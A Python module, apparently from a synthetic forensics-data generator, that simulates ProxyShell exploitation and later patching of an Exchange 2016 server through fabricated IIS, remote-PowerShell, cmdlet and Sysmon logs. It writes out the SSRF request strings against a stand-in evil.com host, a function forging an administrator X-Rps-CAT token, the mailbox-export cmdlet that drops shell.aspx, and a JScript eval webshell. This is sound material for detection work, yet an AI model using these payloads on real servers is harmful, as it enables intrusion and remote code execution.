"""exchange-2016-proxyshell: Exchange 2016 CU19 exploited through ProxyShell in August 2021, CU21 by September."""

from __future__ import annotations

import base64
import struct
from datetime import datetime, timedelta

from exgen import blobs
from exgen.common import HostFiles, utc
from exgen.events import Proc, cmdlet_event, sysmon_file, sysmon_proc
from exgen.exlogs import rps_cmdlet_line, rps_http_line
from exgen.hostbase import ASPNET_CLIENT, Builder, Volume, benign_life, mk_server, new_host
from exgen.weblogs import Req
from exgen.winbenign import SYSTEM, default_pool

BUILD_2016_CU19 = (15, 1, 2176, 2)
BUILD_2016_CU21 = (15, 1, 2308, 8)
UA = "python-requests/2.26.0"
EMAIL = "Email=autodiscover/autodiscover.json%3F@evil.com"
SHELL = '<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>'


def rps_cat(user: str, sid: str) -> str:
    """An X-Rps-CAT value: a serialized CommonAccessToken (version, type, auth, logon name, SID, groups)."""
    def field(tag: bytes, text: str) -> bytes:
        raw = text.encode()
        return tag + bytes([len(raw)]) + raw

    token = b"V" + struct.pack("<H", 1) + field(b"T", "Windows") + b"C\x00" + field(b"A", "Kerberos")
    token += field(b"L", user) + field(b"U", sid)
    groups = ["S-1-5-32-544", "S-1-5-21-3623811015-3361044348-30300820-512"]
    token += b"G" + struct.pack("<I", len(groups))
    for group in groups:
        token += struct.pack("<I", 7) + field(b"S", group)
    token += b"E" + struct.pack("<I", 0)
    return base64.b64encode(token).decode()


def _ps_req(b: Builder, t: datetime, ip: str, query: str, status: int, what: str, method: str = "POST") -> Req:
    return b.add_req(Req(
        t=t, ip=ip, method=method, stem="/autodiscover/autodiscover.json", query=query, ua=UA, status=status,
        taken=b.rng.randint(15, 900), protocol="Autodiscover", routing_hint="ExplicitLogon",
        backend_status=status if status < 400 else 0, iis_mark=what, proxy_mark=what,
    ))


def proxyshell() -> HostFiles:
    server = mk_server("EXCH16", "10.10.10.16", BUILD_2016_CU19)
    volume = Volume(sessions=40, sysmon=8, application=8, security=6)
    b = new_host("exchange-2016-proxyshell", server, "2021-08-12", "2021-08-14", volume)
    rng = b.rng
    benign_life(b, utc("2021-07-30"), volume)
    patched = mk_server("EXCH16", "10.10.10.16", BUILD_2016_CU21)
    mark = len(b.reqs), len(b.rps_http), len(b.rps_cmdlet), len(b.ecp)
    for day in ("2021-09-07",):
        benign_life(b, utc(day), volume)
    for r in b.reqs[mark[0]:]:
        r.server = patched
    for line in b.rps_http[mark[1]:] + b.rps_cmdlet[mark[2]:] + b.ecp[mark[3]:]:
        line.server = patched
        major, minor, build, rev = patched.build
        if "MajorVersion" in line.values:
            line.values.update({"MajorVersion": str(major), "MinorVersion": str(minor), "BuildVersion": str(build),
                                "RevisionVersion": str(rev)})

    atk = "203.0.113.200"
    t = utc("2021-08-13 06:02:11.084")
    _ps_req(b, t, atk, f"@evil.com/owa/&{EMAIL}", 302, "ProxyShell path confusion probe (autodiscover.json)", "GET")
    _ps_req(b, t + timedelta(seconds=2), atk, f"@evil.com/autodiscover/autodiscover.xml?&{EMAIL}", 200,
            "ProxyShell SSRF: autodiscover.xml (LegacyDN)")
    _ps_req(b, t + timedelta(seconds=3), atk, f"@evil.com/mapi/nspi/?&{EMAIL}", 200,
            "ProxyShell SSRF (CVE-2021-34473): mapi/nspi")
    _ps_req(b, t + timedelta(seconds=5), atk, f"@evil.com/mapi/emsmdb?&{EMAIL}", 200,
            "ProxyShell SSRF: mapi/emsmdb (SID)")
    _ps_req(b, t + timedelta(seconds=9), atk, f"@evil.com/EWS/exchange.asmx?&{EMAIL}", 200,
            "ProxyShell SSRF: EWS (draft holding the encoded webshell)")
    admin_upn, admin_sid = "Administrator@contoso.com", "S-1-5-21-3623811015-3361044348-30300820-500"
    cat = rps_cat(admin_upn, admin_sid)
    ps_query = f"@evil.com/powershell/?X-Rps-CAT={cat}&{EMAIL}"
    ps_times = [t + timedelta(seconds=14 + 6 * i, milliseconds=rng.randint(0, 999)) for i in range(9)]
    for i, when in enumerate(ps_times):
        _ps_req(b, when, atk, ps_query, 200, "ProxyShell (CVE-2021-34523): remote PowerShell as Administrator")
        b.rps_http.append(rps_http_line(
            rng, when + timedelta(milliseconds=40), server, "CONTOSO\\Administrator", atk,
            f"X-Rps-CAT={cat}&{EMAIL}", action="New-PSSession:Receive" if i == 0 else "Command",
            mark="ProxyShell: Rps_Http request with X-Rps-CAT from the internet", auth="Kerberos"))
    cmdlets = [
        (ps_times[2], "New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -User "administrator@contoso.com"',
         "ProxyShell: Mailbox Import Export role assigned"),
        (ps_times[4], "New-MailboxExportRequest",
         '-Mailbox "administrator@contoso.com" -IncludeFolders "#Drafts#" -ContentFilter "(Subject -eq \'jqvbmhkf\')" '
         '-ExcludeDumpster "True" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx"',
         "CVE-2021-31207: New-MailboxExportRequest writes a .aspx under the web root"),
        (ps_times[6], "Get-MailboxExportRequest", "", ""),
        (ps_times[8], "Remove-MailboxExportRequest",
         '-Identity "contoso.local/Users/Administrator\\MailboxExport" -Confirm "False"',
         "ProxyShell clean-up: Remove-MailboxExportRequest"),
    ]
    for when, cmdlet, params, what in cmdlets:
        b.rps_cmdlet.append(rps_cmdlet_line(rng, when + timedelta(milliseconds=300), server, "CONTOSO\\Administrator",
                                            admin_sid, "Unknown", cmdlet, params, mark=what))
        b.events.append(cmdlet_event(when + timedelta(milliseconds=320), cmdlet, params,
                                     "contoso.local/Users/Administrator", admin_sid, "Remote-ManagementShell-Unknown",
                                     f"MSExchange Management: {cmdlet}" if what else ""))
    written = ps_times[5] + timedelta(seconds=2, milliseconds=417)
    b.host.add(f"{ASPNET_CLIENT}/shell.aspx", blobs.pst_with_webshell(rng, SHELL), written,
               mark="PST (!BDN) written as .aspx by the mailbox export, webshell inside")
    store = Proc(4388, "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxReplication.exe",
                 "\"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxReplication.exe\"",
                 SYSTEM, utc("2021-08-01 03:00:00"))
    b.events.append(sysmon_file(written, store, "C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx",
                                "Sysmon 11: the mailbox replication service writes shell.aspx"))
    t = utc("2021-08-13 06:05:10.220")
    b.add_req(Req(t=t, ip=atk, method="GET", stem="/aspnet_client/shell.aspx", query="", ua=UA, status=200,
                  taken=31, iis_mark="ProxyShell webshell requested"))
    pool = default_pool(utc("2021-08-13 00:00:00"))
    for i, (cmdline, what) in enumerate([("cmd /c whoami", "w3wp (DefaultAppPool) -> cmd.exe whoami"),
                                         ("cmd /c ipconfig /all", "w3wp (DefaultAppPool) -> cmd.exe ipconfig")]):
        when = t + timedelta(seconds=20 + 40 * i)
        b.add_req(Req(t=when - timedelta(milliseconds=300), ip=atk, method="POST", stem="/aspnet_client/shell.aspx",
                      query="", ua=UA, status=200, taken=140, iis_mark="ProxyShell webshell used (POST 200)"))
        b.events.append(sysmon_proc(when, Proc(23001 + 100 * i, "C:\\Windows\\System32\\cmd.exe", cmdline, SYSTEM,
                                               when), pool, what, cwd="c:\\windows\\system32\\inetsrv\\"))
    # after the upgrade to CU21: the same probe fails
    t = utc("2021-09-07 14:41:09.530")
    probe = _ps_req(b, t, "203.0.113.201", f"@evil.com/mapi/nspi/?&{EMAIL}", 400,
                    "ProxyShell attempt after the upgrade (400, failed)", "GET")
    probe.server = patched
    return b.finish()
